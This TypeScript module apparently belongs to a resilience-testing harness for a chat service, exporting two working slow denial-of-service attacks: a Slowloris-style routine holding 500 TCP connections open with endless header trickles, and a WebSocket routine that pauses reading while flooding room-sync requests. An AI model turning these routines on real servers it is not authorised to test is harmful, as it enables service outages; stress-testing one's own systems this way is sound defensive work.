import { connect } from 'node:net';
import WebSocket from 'ws';

import { dial, many, turn, type Attack } from './attack-ways.ts';

/** What takes its time, and hopes that it is waited for. */
export const slowAttacks: Readonly<Record<string, Attack>> = {
  'requests that never end': async (target, end) => {
    const { hostname, port } = new URL(target.url);
    const lines = Array.from({ length: 500 }, () => {
      const line = connect(Number(port), hostname);
      line.on('error', () => undefined);
      line.write('POST /api/message/message HTTP/1.1\r\nHost: officehours.example\r\n');
      return line;
    });
    while (!end()) {
      for (const line of lines) if (line.writable) line.write('X-Slow: 1\r\n');
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    for (const line of lines) line.destroy();
  },
  'readers that stop': async (target, end) => {
    const ask = `420["syncRooms",${JSON.stringify({ epoch: 'x', rooms: [{ chatRoomId: target.room, afterSeq: 0 }] })}]`;
    await many(end, async (lane) => {
      const socket = await dial(target, lane);
      if (!socket) return turn();
      socket.send(`40${JSON.stringify({ token: target.token, rooms: 'all' })}`);
      socket.pause();
      while (!end() && socket.readyState === WebSocket.OPEN) {
        socket.send(ask);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      socket.terminate();
    });
  },
};
